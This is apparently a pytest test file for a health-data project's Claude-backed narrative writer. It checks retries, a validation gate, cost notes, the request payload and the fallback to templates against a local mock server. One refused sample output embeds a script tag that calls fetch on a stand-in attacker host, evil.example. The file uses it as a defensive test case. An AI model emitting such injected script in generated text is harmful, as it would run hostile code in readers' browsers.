"""Claude's writer against a loopback server, with the real SDK: a right narrative comes out every
time."""

from __future__ import annotations

import json
import re
from dataclasses import replace

import pytest

from bio_lakehouse.claude.access import NO_KEY
from bio_lakehouse.claude.prices import Prices
from bio_lakehouse.claude.request import SHORTEST_CACHED_TOKENS
from bio_lakehouse.claude.usage import Usage
from bio_lakehouse.narrative.claude_writer import ClaudeWriter, writer_for
from bio_lakehouse.narrative.facts import Facts, FactsBuilder
from bio_lakehouse.narrative.gate import objections
from bio_lakehouse.narrative.placeholders import fill
from bio_lakehouse.narrative.prompt import SYSTEM, egress
from bio_lakehouse.narrative.template_writer import TemplateWriter
from bio_lakehouse.narrative.writer import Narrative, from_json, to_json
from bio_lakehouse_tests.claude.anthropic_server import (
    AnthropicServer,
    Reply,
    access_to,
    breaks_off,
    refuses,
    says,
    says_nothing,
    serving,
)
from bio_lakehouse_tests.narrative.example_facts import WEEK, example_facts
from bio_lakehouse_tests.narrative.good_texts import written_out

GOOD = written_out(
    "HRV was {h.direction}: it averaged {h.week}. {high.h.label} came on {high.h.weekday}, at "
    "{high.h.value}."
)
TOLD = (
    "HRV was higher than in the four weeks before: it averaged 61 ms. "
    "The week’s highest HRV came on Thursday, at 74 ms."
)
BAD = {
    "a number that is not in the JSON": "HRV averaged 63 ms.",
    "a wrong weekday": written_out("{high.h.label} came on Tuesday."),
    "a weekday of another high": written_out("{high.h.label} came on {high.r.weekday}."),
    "a cause": written_out("HRV was {h.direction} because of your training."),
    "markdown with a script": written_out(
        "**HRV** was {h.direction}. <script>fetch('//evil.example')</script>"
    ),
    "a flipped direction": written_out("HRV fell to {h.week}."),
    "nothing": "",
}


@pytest.fixture(scope="module")
def facts() -> Facts:
    return example_facts()


def ask(facts: Facts, *replies: Reply, seconds: float = 20.0) -> tuple[Narrative, AnthropicServer]:
    with serving(*replies) as server:
        return ClaudeWriter(access_to(server, seconds)).write(facts), server


def is_template(narrative: Narrative, facts: Facts) -> bool:
    template = TemplateWriter().write(facts)
    return (
        narrative.author == "templates"
        and narrative.text == template.text
        and narrative.draft == template.draft
    )


def test_a_good_text_is_filled_by_code(facts: Facts) -> None:
    narrative, server = ask(facts, says(GOOD))
    assert (narrative.author, narrative.text) == ("Claude", TOLD)
    assert (narrative.tries, narrative.reason, narrative.refused) == (1, "", ())
    assert len(server.asked) == 1
    assert server.asked[0].path == "/v1/messages"


def test_what_it_cost_is_said(facts: Facts) -> None:
    narrative, _ = ask(facts, says(GOOD))
    assert narrative.usage == Usage(800, 250, 1200, 300)
    assert narrative.cost_usd == pytest.approx((800 * 2 + 250 * 10 + 1200 * 2.5 + 300 * 0.1) / 1e6)
    assert (
        narrative.note
        == "Written by Claude (claude-sonnet-5-5) in 1 request: 2,550 tokens, about $0.0071."
    )


def test_cost_is_unknown_without_a_price_and_follows_set_ones(facts: Facts) -> None:
    with serving(says(GOOD)) as server:
        unknown = replace(access_to(server), model="claude-of-tomorrow")
        assert ClaudeWriter(unknown).write(facts).note.endswith("2,550 tokens, cost unknown.")
        priced = replace(unknown, prices=Prices(100, 200, 300, 400))
        assert ClaudeWriter(priced).write(facts).cost_usd == pytest.approx(
            0.08 + 0.05 + 0.36 + 0.12
        )


def test_egress_is_what_is_sent_to_the_byte(facts: Facts) -> None:
    with serving(says(GOOD)) as server:
        access = access_to(server)
        shown = egress(facts, access)
        assert server.asked == []
        ClaudeWriter(access).write(facts)
    assert server.asked[0].body == shown.encode()


def test_what_is_sent_is_the_facts_and_nothing_else(facts: Facts) -> None:
    with serving(says(GOOD)) as server:
        sent = json.loads(egress(facts, access_to(server)))
    assert sent["system"] == [
        {"text": SYSTEM, "type": "text", "cache_control": {"type": "ephemeral"}}
    ]
    assert len(sent["messages"]) == 1
    (block,) = sent["messages"][0]["content"]
    assert json.loads(block["text"]) == facts.as_json()
    assert block["cache_control"] == {"type": "ephemeral"}


@pytest.mark.parametrize("bad", BAD.values(), ids=BAD.keys())
def test_a_second_try_gets_the_objections(facts: Facts, bad: str) -> None:
    narrative, server = ask(facts, says(bad), says(GOOD))
    assert (narrative.author, narrative.text, narrative.tries) == ("Claude", TOLD, 2)
    assert narrative.refused == tuple(map(str, objections(bad, facts)))
    assert narrative.usage == Usage(1600, 500, 2400, 600)
    first, second = (asked.json["messages"][0]["content"] for asked in server.asked)
    assert second[0] == first[0]
    assert all(objection in second[1]["text"] for objection in narrative.refused)


@pytest.mark.parametrize("bad", BAD.values(), ids=BAD.keys())
def test_after_two_refusals_the_template_speaks(facts: Facts, bad: str) -> None:
    narrative, server = ask(facts, says(bad))
    assert is_template(narrative, facts)
    assert len(server.asked) == narrative.tries == 2
    assert narrative.reason == "the gate refused what Claude wrote, twice"
    assert narrative.cost_usd == pytest.approx(2 * 0.00713)
    assert "about $0.0143" in narrative.note


FAILING = {
    "by status": (refuses(529, "overloaded_error", retry_after_ms="1"), Usage()),
    "cut": (breaks_off(GOOD), Usage(800, 1, 1200, 300, complete=False)),
    "never": (says_nothing, Usage(complete=False)),
}


@pytest.mark.parametrize(("reply", "usage"), FAILING.values(), ids=FAILING.keys())
def test_where_claude_fails_the_template_speaks(facts: Facts, reply: Reply, usage: Usage) -> None:
    narrative, _ = ask(facts, reply, seconds=0.6)
    assert is_template(narrative, facts)
    assert (narrative.tries, narrative.usage) == (1, usage)
    assert narrative.note.startswith(f"Written from templates: {narrative.reason}. Asking Claude")
    assert narrative.reason


def test_tokens_of_a_cut_answer_are_told_as_the_least(facts: Facts) -> None:
    narrative, _ = ask(facts, breaks_off(GOOD))
    assert "1 request: at least 2,301 tokens, at least $0.00" in narrative.note


def test_the_example_in_the_prompt_would_pass(facts: Facts) -> None:
    example = SYSTEM.partition("\nExample\n")[2].partition("\n\nRefused")[0]
    named = example.replace("finding.sleep_readiness_next_day", "finding.sleep_next_day")
    assert named.count("{") == 11
    assert objections(named, facts) == ()


def test_what_the_prompt_calls_refused_is_refused(facts: Facts) -> None:
    listed = SYSTEM.partition("\nRefused, and why\n- ")[2].partition("\n\nAnswer")[0].split("\n- ")
    wrong = [entry.partition(". ")[0] + "." for entry in listed]
    assert len(wrong) == 6
    assert [text for text in wrong if not objections(text, facts)] == []


def test_the_prompt_is_long_enough_to_be_cached() -> None:
    # A token is a word or a sign at most: no tokenizer joins two of these.
    assert len(re.findall(r"\w+|[^\w\s]", SYSTEM)) > SHORTEST_CACHED_TOKENS


def test_of_an_unknown_week_nothing_is_asked() -> None:
    empty = FactsBuilder(WEEK).build()
    narrative, server = ask(empty, says(GOOD))
    assert (narrative.author, narrative.text, narrative.tries) == ("templates", "", 0)
    assert server.asked == []


def test_a_kept_narrative_is_the_same_again_and_asks_nobody(facts: Facts) -> None:
    narrative, _ = ask(facts, says("HRV was up."), says(GOOD))
    assert from_json(to_json(narrative), facts) == narrative


def test_a_kept_narrative_of_other_facts_or_of_another_hand_does_not_hold(facts: Facts) -> None:
    narrative, _ = ask(facts, says(GOOD))
    assert from_json(to_json(narrative), FactsBuilder(WEEK).build()) is None
    assert from_json(to_json(replace(narrative, draft="HRV was up.")), facts) is None
    assert from_json("{}", facts) is None
    assert from_json(b"\xff", facts) is None


def test_a_kept_text_is_filled_anew(facts: Facts) -> None:
    narrative, _ = ask(facts, says(GOOD))
    forged = to_json(narrative).replace('"text": null', '"text": "HRV is 99 ms."')
    kept = from_json(forged, facts)
    assert kept is not None
    assert kept.text == fill(GOOD, facts)


def test_without_leave_there_is_only_the_template(facts: Facts) -> None:
    assert isinstance(writer_for(None), TemplateWriter)
    with serving(says(GOOD)) as server:
        assert isinstance(writer_for(access_to(server)), ClaudeWriter)
        unsent = ClaudeWriter(replace(access_to(server), api_key=NO_KEY)).write(facts)
        assert is_template(unsent, facts)
        assert server.asked == []
